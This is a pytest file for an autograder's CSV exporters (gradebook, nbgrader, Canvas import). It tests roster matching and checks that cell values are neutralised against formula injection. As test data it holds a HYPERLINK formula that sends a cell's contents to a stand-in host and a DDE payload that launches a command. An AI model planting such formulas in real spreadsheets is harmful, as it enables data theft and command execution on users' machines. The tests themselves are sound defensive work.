"""Every CSV the kit writes is safe to open in a spreadsheet; Canvas gets a gradebook it imports."""

import csv
import io

import pytest

from autograder.errors import KitError
from autograder.reports import canvas, gradebook
from autograder.reports.nbgrader_grades import NBGRADER_EXPORT_COLUMNS, GradesRow, nbgrader_csv

EVIL = '=HYPERLINK("http://example.invalid/?"&A1,"click")'


def result(student: str, maxpool: float, conv: float = 12.0, error: str | None = None) -> dict:
    return {
        "schema": 1,
        "student": student,
        "score": maxpool + conv,
        "max_score": 23.0,
        "error": error,
        "exercises": [
            {"id": "06_conv_shapes", "score": float(conv), "max_score": 12.0, "checks": []},
            {"id": "07_maxpool", "score": float(maxpool), "max_score": 11.0, "checks": []},
        ],
    }


def rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_a_formula_as_a_student_name_is_text_in_the_gradebook():
    table = rows(gradebook.gradebook_csv([result(EVIL, 11), result("alice", 9)]))
    assert table[0] == ["student", "06_conv_shapes", "07_maxpool", "total", "max_total", "status"]
    assert {row[0] for row in table[1:]} == {"'" + EVIL, "alice"}


def test_nbgraders_grades_csv_neutralises_formulas_too():
    table = rows(nbgrader_csv([GradesRow("+cmd|' /C calc'!A0", result("x", 5))]))
    assert table[0] == list(NBGRADER_EXPORT_COLUMNS)
    assert all(row[3] == "'+cmd|' /C calc'!A0" for row in table[1:])


def test_an_error_message_starting_with_a_formula_is_neutralised():
    table = rows(gradebook.gradebook_csv([result("bob", 0, 0, error="-1+1 broke")]))
    assert table[1][-1] == "error: -1+1 broke"
    table = rows(gradebook.csv_text(["a"], [["@SUM(1)"], [3.5]]))
    assert table[1:] == [["'@SUM(1)"], ["3.5"]]


def test_without_a_roster_canvas_gets_the_folder_as_student_and_login_id():
    export = canvas.canvas_csv([result("alice", 9), result(EVIL, 11)])
    table = rows(export.text)
    assert table[0] == [
        "Student",
        "ID",
        "SIS User ID",
        "SIS Login ID",
        "Section",
        "06_conv_shapes",
        "07_maxpool",
    ]
    assert ["alice", "", "", "alice", "", "12.0", "9.0"] in table
    assert ["'" + EVIL, "", "", "'" + EVIL, "", "12.0", "11.0"] in table


ROSTER = (
    "\ufeffStudent,ID,SIS User ID,SIS Login ID,Section,07_maxpool (4242),Homework 1 (77),Current Score\r\n"
    "    Points Possible,,,,,11,10,(read only)\r\n"
    '"Lovelace, Ada",101,S-1,ada,Sec A,,,\r\n'
    '"Turing, Alan",102,S-2,aturing,Sec B,,,\r\n'
    '"Hopper, Grace",103,S-3,grace,Sec A,,,\r\n'
    '"Student, Test",999,,,Sec A,,,\r\n'
)


@pytest.fixture
def roster(tmp_path):
    path = tmp_path / "roster.csv"
    path.write_text(ROSTER, encoding="utf-8")
    return canvas.read_roster(path)


def test_the_roster_is_read_from_canvas_gradebook_export(roster):
    assert roster.columns == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section"]
    assert [row["SIS Login ID"] for row in roster.rows] == ["ada", "aturing", "grace", ""]
    assert "07_maxpool (4242)" in roster.assignments


def test_folders_named_after_login_or_sis_ids_match_and_existing_assignment_columns_are_reused(roster):
    export = canvas.canvas_csv([result("ada", 9), result("S-2", 11), result("mallory", 0)], roster)
    table = rows(export.text)
    assert table[0] == [
        "Student",
        "ID",
        "SIS User ID",
        "SIS Login ID",
        "Section",
        "06_conv_shapes",
        "07_maxpool (4242)",
    ]
    assert sorted(table[1:]) == [
        ["Lovelace, Ada", "101", "S-1", "ada", "Sec A", "12.0", "9.0"],
        ["Turing, Alan", "102", "S-2", "aturing", "Sec B", "12.0", "11.0"],
    ]
    assert len(export.left_out) == 1 and export.left_out[0].startswith("mallory: no roster row")


def test_a_folder_column_maps_arbitrary_folder_names(tmp_path):
    path = tmp_path / "roster.csv"
    path.write_text(
        "Student,ID,SIS Login ID,Section,Folder\nHopper Grace,103,grace,A,team-7\n", encoding="utf-8"
    )
    table = rows(canvas.canvas_csv([result("team-7", 4)], canvas.read_roster(path)).text)
    assert table[1][:4] == ["Hopper Grace", "103", "grace", "A"]


def test_a_student_the_batch_could_not_grade_gets_empty_cells_not_zero(roster):
    export = canvas.canvas_csv([result("ada", 0, 0, error="broken zip")], roster)
    assert rows(export.text)[1][-2:] == ["", ""] and "not graded" in export.left_out[0]


def test_a_file_that_is_not_a_canvas_export_is_refused(tmp_path):
    path = tmp_path / "notes.csv"
    path.write_text("name,grade\nada,3\n", encoding="utf-8")
    with pytest.raises(KitError, match="not a Canvas gradebook export"):
        canvas.read_roster(path)
